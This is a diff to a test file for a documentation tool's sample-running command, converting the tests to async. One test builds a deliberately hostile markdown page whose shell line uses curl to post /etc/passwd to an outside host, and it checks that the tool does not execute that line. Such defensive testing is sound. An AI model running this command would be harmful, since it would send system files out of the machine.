@@ -1,4 +1,4 @@
-import { spawn, spawnSync } from 'node:child_process';
+import { spawn } from 'node:child_process';
 import { existsSync } from 'node:fs';
 import { createServer } from 'node:http';
 import { tmpdir } from 'node:os';
@@ -8,6 +8,7 @@ import { join, resolve } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest';
 import { close, listen } from '../../support/serve.ts';
 import { type SiteDriver, site } from '../../support/site.ts';
+import { docsCommand } from '../../support/docs-command.ts';
 
 const BIN = resolve(import.meta.dirname, '../../../bin/docs.js');
 let driver: SiteDriver;
@@ -141,12 +142,12 @@ function run(from = '', to = '') {
 }
 
 function docs(...args: readonly string[]) {
-  return spawnSync(process.execPath, [BIN, ...args], { cwd: driver.dir, encoding: 'utf8' });
+  return docsCommand(args, { cwd: driver.dir });
 }
 
 describe('docs check-samples --run', () => {
-  it('runs a page from its first block to its last, and prints each one before', () => {
-    const { status, stderr } = run();
+  it('runs a page from its first block to its last, and prints each one before', async () => {
+    const { status, stderr } = await run();
     expect(stderr).toContain('0 errors, 0 warnings');
     expect(stderr).toContain('content/docs/a.md:4\n  auth=');
     expect(status).toBe(0);
@@ -228,28 +229,28 @@ describe('docs check-samples --run', () => {
       "import 'not-there';\nconst headers: Rec",
       "Cannot find package 'not-there'",
     ],
-  ])('finds %s', (...[, from, to, message]) => {
-    const { stderr } = run(from, to);
+  ])('finds %s', async (...[, from, to, message]) => {
+    const { stderr } = await run(from, to);
     expect(stderr).toContain(message);
     expect(stderr).not.toContain('0 errors, 0 warnings');
   });
 
-  it('runs files by their names, blocks that readers do not see, and clients of the configuration', () => {
-    const write = (main: string): string => {
+  it('runs files by their names, blocks that readers do not see, and clients of the configuration', async () => {
+    const write = async (main: string): Promise<string> => {
       driver.write(
         'content/docs/a.md',
         FILES.replace('main();', () => main),
       );
-      return docs('check-samples', '--run', '--fail-on', 'warning').stderr;
+      return (await docs('check-samples', '--run', '--fail-on', 'warning')).stderr;
     };
     driver.write('client.ts', CLIENT);
     driver.write(
       'site.config.ts',
       `export default { title: 'T', url: 'https://t.example', openapi: [{ spec: 'api.yaml' }], samples: { env: ['API_KEY'], clients: [{ import: '@example/orders', module: 'client.ts' }] } };\n`,
     );
-    expect(write('main();')).toContain('0 errors, 0 warnings');
-    expect(write('main(1);')).toContain('"/product" in the body must be');
-    expect(write('mine();')).toContain('mine is not defined');
+    expect(await write('main();')).toContain('0 errors, 0 warnings');
+    expect(await write('main(1);')).toContain('"/product" in the body must be');
+    expect(await write('mine();')).toContain('mine is not defined');
   });
 
   it('passes requests on to a server, with the variables of the configuration and nothing else', async () => {
@@ -284,7 +285,7 @@ curl -s https://api.example.com/v1/orders/$ORDER -H "Authorization: Bearer wrong
     expect((await runWith('old')).said).toContain('GET /orders/{orderId}: the server answers 401');
   });
 
-  it('leaves files and hosts alone that a hostile page names, until it runs', () => {
+  it('leaves files and hosts alone that a hostile page names, until it runs', async () => {
     const seen = join(tmpdir(), `docs-hostile-${process.pid}`);
     const hostile = `\`\`\`sh
 touch ${seen}; curl -s https://api.example.com/v1/orders -d @/etc/passwd
@@ -296,15 +297,15 @@ writeFileSync(${JSON.stringify(seen)}, await (await fetch('https://api.example.c
 \`\`\`
 `;
     driver.write('content/docs/a.md', hostile);
-    docs('check-samples');
-    docs('build');
+    await docs('check-samples');
+    await docs('build');
     expect(existsSync(seen)).toBe(false);
   });
 
-  it('runs nothing without the flag, and wants it for --server', () => {
+  it('runs nothing without the flag, and wants it for --server', async () => {
     driver.write('content/docs/a.md', PAGE.replace('auth=', 'exit 3; auth='));
-    const { stderr } = docs('check-samples');
+    const { stderr } = await docs('check-samples');
     expect(stderr).not.toContain('sample-run');
-    expect(docs('check-samples', '--server', 'http://127.0.0.1:9').status).toBe(2);
+    expect((await docs('check-samples', '--server', 'http://127.0.0.1:9')).status).toBe(2);
   });
 });
